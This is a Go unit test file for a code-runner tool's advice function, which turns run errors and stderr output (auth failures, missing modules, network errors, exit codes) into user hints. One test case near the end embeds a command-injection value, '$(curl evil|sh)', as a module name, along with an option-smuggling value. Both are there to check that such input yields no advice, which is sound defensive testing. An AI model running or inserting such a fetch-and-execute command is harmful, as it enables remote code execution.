package advice

import (
	"errors"
	"fmt"
	"net/http"
	"strings"
	"syscall"
	"testing"

	"github.com/rockpool/rockpool/client"
	"github.com/rockpool/rockpool/runtime"
)

func refused(code runtime.Code) error {
	err := &client.Error{Message: "no"}
	err.Extensions.Code = code
	return fmt.Errorf("put it: %w", err)
}

func TestRules(t *testing.T) {
	python := Case{Environment: "lab", Image: "python:3", ExitCode: 1, Upload: "`rockpool runner cp`"}
	with := func(change func(*Case)) Case {
		c := python
		change(&c)
		return c
	}
	stderr := func(text string) Case { return with(func(c *Case) { c.Stderr = text }) }
	for _, test := range []struct {
		name string
		c    Case
		says string // "": nothing
	}{
		{"no token", Case{Err: refused(runtime.CodeUnauthenticated)}, "--token-file (or ROCKPOOL_TOKEN_FILE)"},
		{"no right", Case{Err: refused(runtime.CodeForbidden)}, "rockpool whoami"},
		{"an older server", Case{Err: &client.Error{Message: `Cannot query field "tenant" on type "Execution".`}}, "use the same version for both"},
		{"the server's hint", Case{ExitCode: 124, Hint: "it printed nothing"}, "it printed nothing"},
		{"another error", Case{Err: refused(runtime.CodeConflict), ExitCode: 127, Stderr: "Network is unreachable"}, ""},
		{"another kind of error", Case{Err: errors.New("UNAUTHENTICATED")}, ""},
		{"no TLS", Case{Err: fmt.Errorf("post: %w", http.ErrSchemeMismatch)}, "with http://"},
		{"no server", Case{Err: fmt.Errorf("post: %w", syscall.ECONNREFUSED)}, "rockpool serve"},
		{"success", with(func(c *Case) { c.ExitCode = 0; c.Stderr = "ModuleNotFoundError: No module named 'numpy'" }), ""},
		{"a failure", stderr("ValueError: 1\n"), ""},
		{"127", with(func(c *Case) { c.ExitCode = 127 }), `the image "python:3" of the environment lab lacks the program: choose another environment with --env` + " (`rockpool env list`"},
		{"127 somewhere", Case{ExitCode: 127}, "the runner lacks the program"},
		{"not found", Case{ExitCode: 125, Message: "command: ruby: command not found", Environment: "lab", Image: "python:3"}, `the image "python:3"`},
		{"no interpreter", Case{ExitCode: 125, Message: "x: the interpreter in its first line (#!) doesn't exist"}, "--image IMAGE"},
		{"python's resolver", stderr("socket.gaierror: [Errno -3] Temporary failure in name resolution\n"), "rockpool env put lab --network"},
		{"curl", stderr("curl: (6) Could not resolve host: example.org"), "--network"},
		{"wget", stderr("wget: unable to resolve host address 'a'"), "--network"},
		{"busybox", stderr("wget: bad address 'example.org'"), "--network"},
		{"connect", stderr("connect: Network is unreachable"), "--network"},
		{"node", stderr("Error: getaddrinfo ENOTFOUND example.org"), "--network"},
		{"with a network", with(func(c *Case) { c.Network = true; c.Stderr = "Could not resolve host: a" }), ""},
		{"somewhere", Case{ExitCode: 1, Stderr: "Could not resolve host: a"}, ""},
		{"its own server", stderr("connect: Connection refused"), ""},
		{"a network and a module", stderr("Network is unreachable\nModuleNotFoundError: No module named 'requests'"), "lacks the module requests"},
		{"a module", stderr("ModuleNotFoundError: No module named 'numpy'\n"), "rockpool env put lab --image IMAGE"},
		{"a module of the machine", with(func(c *Case) { c.Image = "host"; c.Stderr = "ModuleNotFoundError: No module named 'numpy'" }), "install it on the server's machine (if the image has it, --warm-module numpy loads"},
		{"a module of node", stderr("Error: Cannot find module 'left-pad'"), "lacks the module left-pad"},
		{"an own file of node", stderr("Error: Cannot find module './lib'"), "also upload the file of ./lib, with `rockpool runner cp`"},
		{"a module of a scope", stderr("Error: Cannot find module '@a/b-c.js'"), "upload your own module with `rockpool runner cp`"},
		{"a command as a module", stderr("ModuleNotFoundError: No module named '$(curl evil|sh)'"), ""},
		{"an option as a module", stderr("ModuleNotFoundError: No module named 'a --image b'"), ""},
	} {
		if got := For(test.c); test.says == "" && got != "" || !strings.Contains(got, test.says) {
			t.Errorf("%s: %q, not %q", test.name, got, test.says)
		}
	}
	if node := For(stderr("Error: Cannot find module 'left-pad'")); strings.Contains(node, "--warm-module") {
		t.Error(node)
	}
}
